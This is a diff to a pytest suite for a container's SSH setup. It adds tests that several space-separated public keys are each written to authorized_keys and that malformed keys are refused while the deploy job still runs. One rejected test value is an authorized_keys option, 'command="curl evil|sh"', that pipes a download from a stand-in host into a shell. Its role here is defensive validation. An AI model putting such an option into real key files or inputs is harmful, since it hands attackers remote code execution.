@@ -207,7 +207,17 @@ def test_without_a_key_one_line_says_ssh_is_off_and_why_and_the_job_runs(kit):
     assert not kit.calls("sshd") and not kit.calls("ssh-keygen") and not kit.ssh_dir.exists()
 
 
-@pytest.mark.parametrize("value", ["hello", 'command="curl evil|sh" ' + KEY, "ssh-ed25519 not base64!"])
+def test_keys_joined_on_one_line_are_each_added(kit):
+    # RunPod may pass every key of an account in PUBLIC_KEY on one line, space-separated
+    proc = kit.run("deploy", PUBLIC_KEY=f"{KEY} {KEY2} ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAA")
+    assert proc.returncode == 0, proc.stderr
+    assert (kit.ssh_dir / "authorized_keys").read_text().splitlines() == \
+        [KEY, KEY2, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAA"]
+    assert "SSH on" in ssh_lines(proc.stderr)[0] and "ignored" not in ssh_lines(proc.stderr)[0]
+
+
+@pytest.mark.parametrize("value", ["hello", 'command="curl evil|sh" ' + KEY, "ssh-ed25519 not base64!",
+                                   "ssh-ed25519"])
 def test_a_public_key_that_is_not_one_is_refused_and_the_job_runs(kit, value):
     proc = kit.run("deploy", PUBLIC_KEY=value)
     assert proc.returncode == 0 and kit.calls("deploy ")
